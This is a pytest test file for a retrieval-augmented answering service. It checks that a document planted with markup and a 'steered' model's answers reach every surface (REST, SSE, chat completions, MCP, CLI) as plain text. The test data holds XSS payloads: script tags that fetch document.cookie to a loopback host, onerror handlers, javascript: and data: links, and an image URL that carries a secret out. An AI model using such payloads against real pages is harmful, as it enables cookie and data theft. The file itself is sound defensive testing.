"""Answers carry text and citations only (issue 35, problem 2; problem 13 for Markdown's <script>).

A planted `.txt` document holds an `<img>` that loads a loopback address, an `<iframe>` and a
`javascript:` link; a steered model (an OpenAI-compatible server on 127.0.0.1, read by the real
provider; the Gemini fake for Gemini) answers with `<img>`, `<script>`, a phishing link and an
image carrying a secret in its address. The answer is made plain once, by the synthesizer before
it is stored; each surface is then checked at its edge, as a client reads it: `/v1/queries` (the
record the page renders) and its SSE events, `/v1/chat/completions` through the `openai` SDK
(whole and streamed), MCP `ask` through the `mcp` SDK, and `ragbus ask` in a subprocess.
"""

from __future__ import annotations

import json
import re
from pathlib import Path

import anyio
import httpx
import openai
import pytest

from services.synthesizer.handler import number_citations
from shared.contract.ports import Answer, AnswerSentence
from shared.formats.text import extract_markdown
from shared.query.plain_answer import plain_answer_text
from tests.integration.fake_openai import FakeOpenAI, Reply
from tests.support import cpu_ratio, mcp_session, mcp_structured, run_cli, serving_documents

SOURCE = "https://example.org/blimp"
LEAK = "127.0.0.1:9"  # where every planted address points: none may reach a surface
PLANTED = (
    "Blimp buffer notes\n\n"
    f'The blimp buffer size is 512 KB <img src="http://{LEAK}/leak" width=1> on every blimp node. '
    f'The blimp buffer is described in <iframe src="http://{LEAK}/frame">the frame</iframe> the manual. '
    "Read the [docs](javascript:alert(1)) about the blimp buffer before tuning it.\n"
)
QUESTION = "What is the blimp buffer size?"
STEERED = [
    f'The blimp buffer size is 512 KB <img src="http://{LEAK}/pixel" onerror="alert(1)">.',
    f"<script>fetch('http://{LEAK}/x?'+document.cookie)</script>It is set on every blimp node.",
    f"Read more about the blimp buffer [here](http://{LEAK}/phish).",
    f"![img](http://{LEAK}/i?d=SECRET) The blimp buffer holds 512 KB.",
    "The [manual](javascript:alert(document.domain)) and [this](data:text/html;base64,PHNjcmlwdD4=) "
    "and [that](vbscript:msgbox) describe the blimp buffer.",
]


def assert_plain(text: str, where: str) -> None:
    """Nothing of the markup reaches ``text``: no tag, image, foreign link or planted address."""
    assert text, f"{where}: empty"
    for pattern, what in [
        (r"<\s*/?\s*(img|iframe|script|svg|a)\b", "an HTML tag"), (r"<[A-Za-z!/?]", "a tag's start"),
        (r"!\[", "a Markdown image"), (r"\]\(\s*(?!https://example\.org/)", "a Markdown link elsewhere"),
        (r"(?i)javascript:|vbscript:|data:text", "a script address"), (re.escape(LEAK), "the planted address"),
        ("SECRET|document\\.cookie|alert\\(|fetch\\(", "the planted code or secret"),
    ]:
        assert not re.search(pattern, text), f"{where} shows {what}: {text!r}"


# ------------------------------------------------------------------ the sanitiser itself


@pytest.mark.parametrize("dirty,clean", [
    ('512 KB <img src="http://h/leak" width=1> here.', "512 KB here."),
    ("A <IMG SRC=http://h/x> b", "A b"),
    ('A <iframe src="http://h/f">fallback</iframe> b', "A b"),
    ("A <script>fetch('http://h?'+document.cookie)</script>b", "A b"),
    ("A <script src=http://h/x.js></script> b <style>p{background:url(http://h)}</style>c", "A b c"),
    ('A <svg onload="alert(1)"><image href="http://h/i"/></svg> b', "A b"),
    ("A <!-- <img src=http://h> --> b", "A b"),
    ("A <a href=\"http://h/phish\" onclick='x()'>click</a> b", "A click b"),
    ("A <img src=x onerror=alert(1)", "A < img src=x onerror=alert(1)"),  # never closes into a tag later
    ("![img](http://h/i?d=SECRET) text", "text"),
    ('![img](<http://h/i> "t") text ![ref][r]', "text"),
    ("[here](http://h/phish) and [docs](javascript:alert(1))", "here and docs"),
    ("[d](data:text/html;base64,AAA) [v](vbscript:msgbox) [j](JaVaScRiPt:x)", "d v j"),
    ("[r]: http://h/phish", ""),
    ("see <http://h/x> and <javascript:alert(1)>", "see `http://h/x` and javascript:alert(1)"),
    ("see http://h/phish. or www.h.example/x", "see `http://h/phish`. or `www.h.example/x`"),
    # GFM makes a link of an address after "_", "*", "~" or "(" too, though "_" is a word character
    ("see _http://h/phish now, ~www.h.example~ or snake_www.h.example/x", "see _`http://h/phish` now, ~`www.h.example`~ or snake_`www.h.example/x`"),
    ("mail me@www.h.example or a1http://h/x", "mail me@www.h.example or a1http://h/x"),
    # a closing curly quote or guillemet after an address stays outside its span, as a straight one does
    ("it says \u201chttp://h/q\u201d and \u00abwww.h.example\u00bb", "it says \u201c`http://h/q`\u201d and \u00ab`www.h.example`\u00bb"),
    (f"[the source]({SOURCE}) and {SOURCE}.", f"[the source]({SOURCE}) and {SOURCE}."),
    (f"<{SOURCE}> stays", f"<{SOURCE}> stays"),
    ("x < y and y > z; 1<2", "x < y and y > z; 1<2"),
    ("<[img](http://h/x) src=x onerror=alert(1)>", "< img src=x onerror=alert(1)>"),  # a tag a removed link left
    (f"![alt [1] x]({SOURCE})", ""),  # an image of a cited source is still an image
    (f"!<{SOURCE}>", f"! <{SOURCE}>"),
    (f"![x and ![{SOURCE}", f"! [x and ! [{SOURCE}"),  # half an image: never closed by the next sentence
    ("see [x and ](http://h/y", "see [x and ] (`http://h/y`"),  # half a link, likewise
    # a placeholder a document shows as text (no HTML element's name, no attributes) stays, in a code span
    ("The configuration is written as <key>=<value> pairs.", "The configuration is written as `<key>=<value>` pairs."),
    # ... with the rest of its word in one span, and left as it is inside the document's own code span (a
    # span opened inside it would close the document's and leave the placeholder bare, hidden by a renderer)
    ('"git grep -m<max-hits>" limits the hits.', '"git grep `-m<max-hits>`" limits the hits.'),
    ("Run `git grep -m<max-hits>` to limit the hits.", "Run `git grep -m<max-hits>` to limit the hits."),
    ("Run `grep <b>` or see (<path>).", "Run `grep <b>` or see (`<path>`)."),
    # a code span is a backtick run closed by one of the same length: a double-backtick span holds its placeholder
    # too, and a lone backtick earlier opens none; the span added is fenced by a run the text does not hold, so it
    # cannot pair with the lone one and leave the placeholder bare
    ("Run ``git grep -m<max-hits>`` now.", "Run ``git grep -m<max-hits>`` now."),
    ("Press the ` key, then run git checkout <branch>.", "Press the ` key, then run git checkout ``<branch>``."),
    ("The ` key; see http://h/phish.", "The ` key; see ``http://h/phish``."),  # an address too
    ("Run git checkout <branch> -- <pathspec>, or <dir_fd>.", "Run git checkout `<branch>` -- `<pathspec>`, or `<dir_fd>`."),
    ("A <key name=x>b</key> and <b>bold</b> <source> <image> <br>c", "A b and bold c"),  # markup still goes
    # a tag the document shows in its own code span is text there, kept as it is (a document teaching HTML says
    # "use the `<br>` element"); one with attributes still goes, inside a span too
    ("Use the `<br>` element, or `</p>` and `<br/>`, in ``<a>``.", "Use the `<br>` element, or `</p>` and `<br/>`, in ``<a>``."),
    ('Write `<img src="http://h/x">` or `<b>`.', "Write ` ` or `<b>`."),
    # a backslash escapes the backtick after it and a blank line ends the paragraph: neither opens a code span, so
    # the tag after one is markup and goes (a renderer shows "\\`<h1>`" as a backtick and a heading)
    (r"Press \`<h1>` then.", r"Press \` ` then."),
    ("Use `a\n\n<h1>` big", "Use `a\n\n` big"),
])
def test_an_answer_sentence_is_made_plain(dirty, clean):
    assert plain_answer_text(dirty, [SOURCE]) == clean


@pytest.mark.parametrize("smuggled", [
    r"Press \`<marquee>` then `</marquee>` then.",  # an escaped backtick opens no span
    r"Press \\\`<h1>` then.",
    "Use `a\n\n<h1>` big, `b\n \n</h1>` c.",  # nor does one a blank line ends
    "Use `a\n\t\n<details>` or `x`.",
])
def test_a_tag_smuggled_through_what_only_looks_like_a_code_span_is_removed(smuggled):
    """A tag is kept only inside a code span a CommonMark renderer shows as code: rendered, the answer holds no
    element but ``<p>`` and ``<code>``."""
    from markdown_it import MarkdownIt

    html = MarkdownIt("commonmark").render(plain_answer_text(smuggled, [SOURCE]))
    assert not re.findall(r"</?(?!p>|code>)[A-Za-z]", html), html


def test_a_link_to_a_source_that_is_not_http_is_not_kept():
    assert plain_answer_text("[x](javascript:alert(1))", ["javascript:alert(1)"]) == "x"


def test_joined_sentences_cannot_close_an_image_or_a_link_one_of_them_opened():
    contexts = [{"url": SOURCE, "document_id": "d1", "chunk_id": "c1", "title": "Blimp"}]
    answer = Answer(text="", sentences=[AnswerSentence("It holds 512 KB ![pixel", [1]),
                                        AnswerSentence("x](http://h/leak?d=SECRET) per node <img", [1]),
                                        AnswerSentence("src=http://h/i> [here", [1]),
                                        AnswerSentence(f"]({SOURCE}) says so [!", [1])])
    text, _, _ = number_citations(answer, contexts)
    assert "![" not in text and "](http" not in text and "<img" not in text, text


def test_a_sentence_of_markup_only_is_dropped_and_cites_nothing():
    contexts = [{"url": SOURCE, "document_id": "d1", "chunk_id": "c1", "title": "Blimp"},
                {"url": "https://example.org/other", "document_id": "d2", "chunk_id": "c2", "title": "Other"}]
    answer = Answer(text="", sentences=[
        AnswerSentence('<img src="http://h/x">', [2]),
        AnswerSentence(f"It is 512 KB, see [the notes]({SOURCE}) and [other](https://example.org/elsewhere).", [1])])
    text, sentences, citations = number_citations(answer, contexts)
    assert text == f"It is 512 KB, see [the notes]({SOURCE}) and other. [1]"
    assert [c["url"] for c in citations] == [SOURCE] and sentences == [
        {"text": f"It is 512 KB, see [the notes]({SOURCE}) and other.", "citations": [1]}]


def test_a_gemini_answer_is_stored_plain():
    from google import genai
    from google.genai import types

    from shared.adapters.gcp.gemini import GeminiLanguageModel
    from shared.contract.config import DEFAULT_GEMINI_MODEL
    from tests.integration.fake_gemini import FakeGemini
    from tests.unit.loop_fakes import CORPUS, make_loop

    with FakeGemini() as server:
        llm = GeminiLanguageModel(genai.Client(api_key="test", http_options=types.HttpOptions(base_url=server.url)),
                                  DEFAULT_GEMINI_MODEL)
        server.reply(json.dumps({"score": 0.9, "relevance": 0.9, "completeness": 0.9, "grounded": True,
                                 "answerable": True, "reasoning": "context 1 says it"}))
        server.reply(json.dumps({"abstained": False, "sentences": [
            {"text": s.replace("blimp buffer", "fusion"), "citations": [1]} for s in STEERED]}))
        loop = make_loop(CORPUS, llm)
        loop.submit("how does reciprocal rank fusion work")
        loop.deliver(loop.run_up_to("synthesizer", loop.transformed("reciprocal rank fusion")))
    record = loop.record()
    assert record["answer_provider"] == "gemini" and "512 KB" in record["answer"]
    assert_plain(record["answer"], "the stored Gemini answer")
    for sentence in record["answer_sentences"]:
        assert_plain(sentence["text"], "a stored Gemini sentence")


# ------------------------------------------------------------------ problem 13: a Markdown document's <script>


@pytest.mark.parametrize("markdown", [
    "# Notes\n\nBefore.\n\n<script>\nvar token = 1; alert('QUOTED')\n</script>\n\nAfter.",
    "Before <script>alert('QUOTED')</script> after.",
    "<div>\n<script>\n\nalert('QUOTED')\n\n</script>\n</div>\n\nAfter.",
    "Before <style>p { background: url(http://QUOTED) }</style> after.",
    "Before.\n\n<iframe src='http://h'>\nQUOTED fallback\n</iframe>\n\nAfter.",
])
def test_the_code_of_a_markdown_documents_script_is_not_kept_as_text(markdown):
    body = extract_markdown(markdown).body
    assert "QUOTED" not in body and "after" in body.lower()


def test_a_tag_a_markdown_document_shows_in_code_reaches_the_answer_as_text():
    """A Markdown page says "be sure the `<a>` tag is not indented": its chunk keeps the code span, and the
    answer quoting it shows the tag as code, not "be sure the tag is not indented"; raw markup still goes."""
    body = extract_markdown("# Notes\n\nBe sure that the `<a>` tag is not indented; close it with `</a>`. "
                            "Run `grep -n` first.\n\nA raw <b>bold</b> word.\n").body
    assert "the `<a>` tag" in body and "with `</a>`." in body and "Run grep -n first" in body
    answer = plain_answer_text(body, [SOURCE])
    assert "Be sure that the `<a>` tag is not indented; close it with `</a>`." in answer
    assert "A raw bold word." in answer


def test_a_tag_an_html_page_shows_in_inline_code_reaches_the_answer_as_text():
    """An HTML page says "use the <code>&lt;br&gt;</code> element": the chunk sets it in a code span, so the
    answer shows "`<br>`", not "use the element"; code inside <pre> stays as written, and a tag with attributes
    shown in code still goes from the answer."""
    from shared.formats.text import extract_html

    body = extract_html(
        "<html><head><title>Tags</title></head><body><h1>Tags</h1><p>Use the <code>&lt;br&gt;</code> element "
        "to break a line, and close a paragraph with <code><span>&lt;/p&gt;</span></code> at its end.</p>"
        "<p>Never write <code>&lt;b onmouseover=\"alert(1)\"&gt;</code> in a label of the page.</p>"
        "<pre>#include &lt;stdio.h&gt;\nint <code>&lt;b&gt;</code> = 1;</pre></body></html>", "").body
    assert "the `<br>` element" in body and "with `</p>` at" in body and "int <b> = 1;" in body
    answer = plain_answer_text(body, [SOURCE])
    assert "Use the `<br>` element to break a line, and close a paragraph with `</p>` at its end." in answer
    assert "onmouseover" not in answer and "alert" not in answer


# ------------------------------------------------------------------ every surface, each provider


def _synthesis_reply(body: dict) -> Reply:
    prompt = body["messages"][-1]["content"]
    if prompt.startswith("Rewrite the user's question"):
        return Reply(json.dumps({"rewritten": "blimp buffer size", "sub_queries": [], "reasoning": "as asked"}))
    if prompt.startswith("Grade how well"):
        return Reply(json.dumps({"score": 0.9, "relevance": 0.9, "completeness": 0.9, "grounded": True,
                                 "answerable": True, "reasoning": "context 1 states it"}))
    if prompt.startswith("Answer the question"):
        return Reply(json.dumps({"abstained": False, "sentences": [{"text": s, "citations": [1]} for s in STEERED]}))
    return Reply(status=400, raw=json.dumps({"error": {"message": f"unexpected prompt {prompt[:60]!r}"}}))


@pytest.fixture(scope="module", params=["local", "openai"])
def planted(request, tmp_path_factory):
    """A home holding the planted document, its runtime and gateway, answered by ``param``'s provider."""
    root = tmp_path_factory.mktemp(f"planted-{request.param}")
    docs = root / "docs"
    docs.mkdir()
    (docs / "blimp.txt").write_text(PLANTED)
    env = {"RAGBUS_HOME": str(root / "home")}
    with FakeOpenAI(responder=_synthesis_reply) as model:
        if request.param == "openai":
            env |= {"RAGBUS_LLM": "openai", "RAGBUS_OPENAI_BASE_URL": model.url, "RAGBUS_OPENAI_MODEL": "tiny-model"}
        with serving_documents(env, docs) as server:
            yield request.param, server.url, env


def _provider_answered(record: dict, provider: str) -> None:
    assert record["status"] == "answered" and "512 KB" in record["answer"], record
    assert record["answer_provider"] == ("openai" if provider == "openai" else record["answer_provider"])


def test_rest_and_its_events_show_plain_text(planted):
    provider, url, _ = planted
    record = httpx.post(f"{url}/v1/queries", json={"question": QUESTION, "wait_s": 90}, timeout=120).json()
    _provider_answered(record, provider)
    stored = httpx.get(f"{url}/v1/queries/{record['id']}", timeout=10).json()  # what the page renders
    for shown in (record, stored):
        assert_plain(shown["answer"], "/v1/queries")
        for sentence in shown["answer_sentences"]:
            assert_plain(sentence["text"], "/v1/queries answer_sentences")
    with httpx.stream("GET", f"{url}/v1/queries/{record['id']}/events", timeout=30) as events:
        stream = "".join(events.iter_text())
    events = [json.loads(line[len("data: "):]) for line in stream.splitlines() if line.startswith("data: ")]
    (end,) = [e for e in events if "answer" in e]
    assert "512 KB" in end["answer"] and len(events) > 3
    # the answer and every stage's line; the retrieved contexts are the documents' own text, shown as such
    for shown in [end["answer"], *(s["text"] for s in end["answer_sentences"]), *(e.get("detail", "") for e in events)]:
        assert_plain(shown or "-", "the SSE events")


def test_chat_completions_whole_and_streamed_show_plain_text(planted):
    provider, url, _ = planted
    client = openai.OpenAI(base_url=f"{url}/v1", api_key="not-needed", max_retries=0, timeout=120)
    whole = client.chat.completions.create(model="ragbus", messages=[{"role": "user", "content": QUESTION}])
    content = whole.choices[0].message.content
    answer = content.split("\n\nSources:\n")[0]
    assert "512 KB" in answer and whole.model_extra["ragbus"]["outcome"] != "not_answerable"
    assert_plain(answer, "/v1/chat/completions")
    stream = client.chat.completions.create(model="ragbus", stream=True,
                                            messages=[{"role": "user", "content": QUESTION}])
    streamed = "".join(c.choices[0].delta.content or "" for c in stream if c.choices)
    assert "512 KB" in streamed
    assert_plain(streamed.split("\n\nSources:\n")[0], "/v1/chat/completions streamed")


def test_mcp_ask_shows_plain_text(planted):
    provider, url, _ = planted

    async def ask() -> dict:
        async with mcp_session(f"{url}/mcp") as session:
            return mcp_structured(await session.call_tool("ask", {"question": QUESTION}))

    result = anyio.run(ask)
    assert "512 KB" in result["answer"], result
    assert_plain(result["answer"], "MCP ask")
    for sentence in result.get("answer_sentences") or []:
        assert_plain(sentence["text"], "MCP ask's sentences")


def test_the_cli_shows_plain_text(planted):
    provider, _, env = planted
    extra = {k: v for k, v in env.items() if k != "RAGBUS_HOME"}
    shown = run_cli(Path(env["RAGBUS_HOME"]), "ask", QUESTION, timeout=300, **extra)
    assert "512 KB" in shown.stdout, shown.stdout + shown.stderr[-2000:]
    assert_plain(shown.stdout, "ragbus ask")


def test_what_a_steered_model_writes_beside_the_answer_is_plain_too():
    """The rewrite, its sub-queries, the grade's reasoning and missing aspects are shown on the page,
    the CLI, the record and the SSE events: a steered model's markup is removed from them as well."""
    from datetime import date

    from shared.adapters.openai_compatible import OpenAICompatibleLanguageModel
    from shared.contract.ports import NumberedContext
    from tests.hostile.model_server import MODEL, answer, model_server

    with model_server() as server:
        llm = OpenAICompatibleLanguageModel(server.url, MODEL, timeout_s=10)
        try:
            server.then(answer(json.dumps({
                "rewritten": f'blimp buffer size <img src="http://{LEAK}/q">',
                "sub_queries": [f"[blimp](javascript:alert(1)) node size ![i](http://{LEAK}/s)"],
                "reasoning": "<script>fetch('http://x')</script>expanded [here](http://h/phish)"})))
            rewrite = llm.transform(QUESTION, today=date(2026, 11, 28))
            server.then(answer(json.dumps({
                "score": 0.4, "relevance": 0.5, "completeness": 0.3, "grounded": True, "answerable": True,
                "reasoning": f'weak <iframe src="http://{LEAK}/g"></iframe>', "missing_aspects": [
                    f"<b onmouseover=alert(1)>node</b> count ![x](http://{LEAK}/a)"]})))
            grade = llm.grade(QUESTION, [NumberedContext(1, SOURCE, "The blimp buffer is 512 KB.")])
        finally:
            llm.close()
    assert rewrite.rewritten == "blimp buffer size" and rewrite.sub_queries == ["blimp node size"]
    assert rewrite.reasoning == "expanded here" and grade.reasoning == "weak"
    assert grade.missing_aspects == ["node count"]


def test_search_results_show_the_clean_text_an_answer_shows(planted):
    """Search quotes the same documents an answer does: GET /v1/search (the page's "Search only"), MCP
    ``search_documents`` and ``ragbus search`` show a chunk as the answer sanitiser leaves it (its header's
    lines kept), not the planted ``<img>``, ``<iframe>`` and ``javascript:`` link (a newcomer's report)."""
    provider, url, env = planted
    found = httpx.get(f"{url}/v1/search", params={"q": QUESTION, "k": 3}, timeout=60).json()
    assert {"rank", "score", "text", "document_id", "chunk_id", "title", "url", "published"} <= set(found["results"][0])
    text = found["results"][0]["text"]
    assert "512 KB on every blimp node" in text and text.startswith("Title: "), text
    assert "\nPublished: " in text and "\nSource: " in text, text  # the header the page and the CLI cut off
    for result in found["results"]:
        assert_plain(result["text"], "/v1/search")

    async def search() -> dict:
        async with mcp_session(f"{url}/mcp") as session:
            return mcp_structured(await session.call_tool("search_documents", {"question": QUESTION}))

    searched = anyio.run(search)
    assert any("512 KB" in c["text"] for c in searched["contexts"]), searched
    for context in searched["contexts"]:
        assert_plain(context["text"], "MCP search_documents")
    extra = {k: v for k, v in env.items() if k != "RAGBUS_HOME"}
    for args in [(), ("--json",)]:
        shown = run_cli(Path(env["RAGBUS_HOME"]), "search", QUESTION, *args, timeout=300, **extra)
        assert "512 KB" in shown.stdout, shown.stdout + shown.stderr[-2000:]
        assert_plain(shown.stdout, f"ragbus search {' '.join(args)}")


MARKED_QUESTION = f'What is the <b>blimp</b> buffer size? <img src="http://{LEAK}/q"> ![i](http://{LEAK}/i?d=SECRET)'


def test_a_question_with_markup_is_searched_and_shown_without_it(planted):
    """The query the page, REST and the CLI show beside the answer (every iteration's query and sub-queries, the
    events' details) is the question made plain as an answer is, not the ``<b>``, ``<img>`` and image it was
    typed with (a newcomer's report: the rewrite kept them); what was typed stays as typed (``original_query``)."""
    provider, url, env = planted
    record = httpx.post(f"{url}/v1/queries", json={"question": MARKED_QUESTION, "max_iterations": 2, "wait_s": 90},
                        timeout=120).json()
    assert record["status"] == "answered" and record["original_query"] == MARKED_QUESTION, record
    if provider == "local":  # the offline rewrite starts from the question as typed
        assert record["iterations"][0]["query"].startswith("What is the blimp buffer size?"), record["iterations"][0]
    for item in record["iterations"]:
        for query in [item["query"], *(item.get("sub_queries") or [])]:
            assert_plain(query, f"iteration {item['iteration']}'s query")
    assert_plain(record["current_query"], "current_query")
    for event in record["events"]:
        assert_plain(event.get("detail") or "-", f"the {event['stage']} event")
    extra = {k: v for k, v in env.items() if k != "RAGBUS_HOME"}
    shown = run_cli(Path(env["RAGBUS_HOME"]), "ask", MARKED_QUESTION, timeout=300, **extra)
    assert "iteration 1:" in shown.stdout, shown.stdout + shown.stderr[-2000:]
    assert_plain(shown.stdout, "ragbus ask")


def test_a_long_run_without_a_space_is_made_plain_in_linear_time():
    """A chunk of 100,000 Markdown reference links ('[x0][x1]...', the labels dropped) is one run of 25,000
    characters with no space: the placeholder pattern was tried from each of its characters (a 16,000-character
    run took 5 s; `ragbus search` over such a chunk ran past 300 s). Its CPU time grows with the run, not
    its square; and a placeholder inside a run is still fenced as before."""
    texts = {n: "".join(f"x{i}" for i in range(n)) for n in (500, 4000)}

    def check(n: int, plain: str) -> None:
        assert plain == texts[n]

    assert cpu_ratio(lambda n: plain_answer_text(texts[n]), 500, 4000, check=check) < 24  # linear: about 8; quadratic: about 64
    assert plain_answer_text("set run/<name>/x and go") == "set `run/<name>/x` and go"


@pytest.mark.parametrize("opening", ["<!", "<?"])
def test_a_long_run_of_declaration_openings_is_made_plain_in_linear_time(opening):
    """A declaration ("<!DOCTYPE …>", "<?xml …?>") runs to the next ">": from each opening of a run with no ">"
    after it, the search ran to the text's end (0.4 s for 25,000 characters, its square). Its CPU time grows
    with the run; a declaration before it is still removed."""
    texts = {n: opening * n for n in (1000, 16000)}

    def check(n: int, plain: str) -> None:
        assert plain == f"< {opening[1]}" * n  # no tag or declaration: each "<" kept apart from what follows

    assert cpu_ratio(lambda n: plain_answer_text(texts[n]), 1000, 16000, check=check) < 48  # linear: 16; quadratic: 256
    assert plain_answer_text(f"<!DOCTYPE html> Go {opening}{opening}> now") == "Go now"
